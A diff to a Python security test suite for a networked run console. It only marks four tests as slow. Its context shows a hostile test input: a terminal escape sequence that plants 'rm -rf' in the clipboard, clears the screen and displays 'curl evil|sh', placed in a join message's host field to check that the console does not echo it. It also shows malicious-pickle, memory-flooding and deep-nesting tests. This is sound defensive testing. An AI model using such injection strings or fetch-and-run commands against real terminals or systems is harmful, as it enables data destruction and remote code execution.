@@ -55,6 +55,7 @@ def run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Run]:
     started.console.wait(10)
 
 
+@pytest.mark.slow
 def test_nothing_listens_beyond_this_machine(run: Run) -> None:
     assert {address for address, _ in run.listening()} == {"127.0.0.1"}
 
@@ -97,6 +98,7 @@ def test_a_pickle_of_another_process_calls_no_function() -> None:
         PlainUnpickler(pickle.dumps(Evil()), known).load()
 
 
+@pytest.mark.slow
 def test_a_stranger_with_a_wrong_token_is_named_by_its_address_alone(run: Run) -> None:
     evil = "\x1b]52;c;cm0gLXJm\x07\x1b[2Jrun: curl evil|sh"
     joining = {"event": "rankjoined", "t": 1.0, "rank": 1, "host": evil, "pid": 7, "leads": False, "token": "wrong"}
@@ -108,6 +110,7 @@ def test_a_stranger_with_a_wrong_token_is_named_by_its_address_alone(run: Run) -
     assert "a process at 127.0.0.1 wanted to join without the token of this run and was refused" in run.said()
 
 
+@pytest.mark.slow
 def test_strangers_cannot_fill_the_memory_of_the_console(run: Run) -> None:
     """Lines without an end, over as many connections as the console takes. Three of them took 180 MB."""
     console = psutil.Process(run.console.pid)
@@ -136,6 +139,7 @@ def test_strangers_cannot_fill_the_memory_of_the_console(run: Run) -> None:
         stranger.close()
 
 
+@pytest.mark.slow
 def test_a_deep_message_is_no_traceback(run: Run) -> None:
     with run.connect() as stranger:
         stranger.sendall(b'{"event": "rankjoined", "x": ' + b"[" * 30_000 + b"]" * 30_000 + b"}\n")
